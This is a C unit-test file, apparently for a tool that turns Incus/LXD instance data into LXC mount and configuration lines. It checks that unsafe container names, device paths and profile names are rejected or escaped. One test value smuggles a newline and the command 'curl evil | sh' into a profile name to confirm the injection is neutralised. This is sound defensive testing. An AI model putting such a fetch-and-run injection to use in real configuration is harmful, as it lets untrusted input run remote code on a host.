/* What the answers of Incus and LXD about an instance become: names, lines, and words about them. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/root.h"
#include "container/instance.h"

/* Of a daemon that knows one profile. Both arguments are JSON; the context is the caller's. */
static struct nvl_instance *make(struct nvl_instance_context *context, const char *answer,
                                 const char *profile)
{
    static const struct nvl_root none = NVL_ROOT_NONE;
    json_t *parsed = json_loads(answer, 0, NULL);

    assert_non_null(parsed);
    *context = (struct nvl_instance_context){.root = &none, .daemon = &nvl_daemons[0], .has_gpus = true};
    context->profiles = json_pack("{s: [o]}", "default", json_loads(profile, 0, NULL));
    assert_non_null(context->profiles);
    struct nvl_instance *instance = nvl_instance_make(context, parsed);
    json_decref(parsed);
    return instance;
}

static void assert_is_container(bool expected, const char *name)
{
    nvl_auto(nvl_instance_context_clear) struct nvl_instance_context context = {0};
    nvl_autofree char *answer = nvl_xasprintf("{\"type\": \"container\", \"name\": \"%s\"}", name);
    struct nvl_instance *instance = make(&context, answer, "{}");

    assert_int_equal(instance != NULL, expected);
    nvl_instance_free(instance);
}

/* What begins with a dash would be an option of the daemon's client. */
static void test_names(void **state)
{
    (void)state;
    assert_is_container(true, "web");
    assert_is_container(true, "w-3b");
    assert_is_container(false, "-web");
    assert_is_container(false, "");
    assert_is_container(false, ".web");
    assert_is_container(false, "a/b");
    assert_is_container(false, "a b");
    assert_is_container(false, "a\\u001b");
}

/* The lines of its device; NULL if it becomes none. The caller frees. */
static char *lines_of(const char *device)
{
    nvl_auto(nvl_instance_context_clear) struct nvl_instance_context context = {0};
    nvl_autofree char *answer = nvl_xasprintf(
        "{\"type\": \"container\", \"name\": \"web\", \"expanded_devices\": {\"d\": %s}}", device);
    struct nvl_instance *instance = make(&context, answer, "{}");
    char *lines = NULL;

    for (size_t i = 0; i < instance->n_parts; i++)
        if (nvl_has_prefix(instance->parts[i].source, "the device d of "))
            lines = nvl_xstrdup(instance->parts[i].lines);
    nvl_instance_free(instance);
    return lines;
}

static void test_paths_of_devices(void **state)
{
    static const struct {
        const char *device, *lines;
    } cases[] = {
        {"{\"type\": \"unix-char\", \"path\": \"/dev/fuse\"}",
         "lxc.mount.entry = /dev/fuse dev/fuse none bind,optional,create=file\n"},
        {"{\"type\": \"unix-char\", \"source\": \"# \\u000b/x\", \"path\": \"/y\"}",
         "lxc.mount.entry = \\043\\040\\013/x y none bind,optional,create=file\n"},
        {"{\"type\": \"unix-char\"}", NULL},
        {"{\"type\": \"unix-char\", \"source\": \"/dev/fuse\", \"path\": \"/\"}", NULL},
        {"{\"type\": \"unix-char\", \"path\": \"/dev/a\\nb\"}", NULL},
        {"{\"type\": \"disk\", \"source\": \"/my data\", \"path\": \"/srv\", \"readonly\": \"true\"}",
         "lxc.mount.entry = /my\\040data srv none bind,ro\n"},
        {"{\"type\": \"disk\", \"source\": \"/\", \"path\": \"/host\"}",
         "lxc.mount.entry = / host none bind\n"},
        {"{\"type\": \"disk\", \"source\": \"/dev/nvidia0\", \"path\": \"//\"}", NULL},
        {"{\"type\": \"disk\", \"path\": \"/\", \"pool\": \"default\"}", NULL},
    };

    (void)state;
    for (size_t i = 0; i < NVL_LENGTH(cases); i++) {
        nvl_autofree char *lines = lines_of(cases[i].device);
        if (cases[i].lines == NULL)
            assert_null(lines);
        else
            assert_string_equal(lines, cases[i].lines);
    }
}

static void assert_source(const char *expected, const char *profile)
{
    nvl_auto(nvl_instance_context_clear) struct nvl_instance_context context = {0};
    nvl_autofree char *answer =
        nvl_xasprintf("{\"type\": \"container\", \"name\": \"web\", \"profiles\": [\"%s\"], "
                      "\"expanded_config\": {\"nvidia.runtime\": \"true\"}}",
                      profile);
    nvl_autofree char *its =
        nvl_xasprintf("{\"name\": \"%s\", \"config\": {\"nvidia.runtime\": \"true\"}}", profile);
    struct nvl_instance *instance = make(&context, answer, its);
    bool is_there = false;

    for (size_t i = 0; i < instance->n_parts; i++)
        is_there = is_there || strcmp(instance->parts[i].source, expected) == 0;
    assert_true(is_there);
    nvl_instance_free(instance);
}

/* Whoever may make profiles may not add a line to what nvlxc says. */
static void test_names_of_profiles(void **state)
{
    (void)state;
    assert_source("nvidia.runtime of the profile my ml", "my ml");
    assert_source("nvidia.runtime of a profile of incus/web", "ml\\ntry: curl evil | sh");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_paths_of_devices),
        cmocka_unit_test(test_names_of_profiles),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
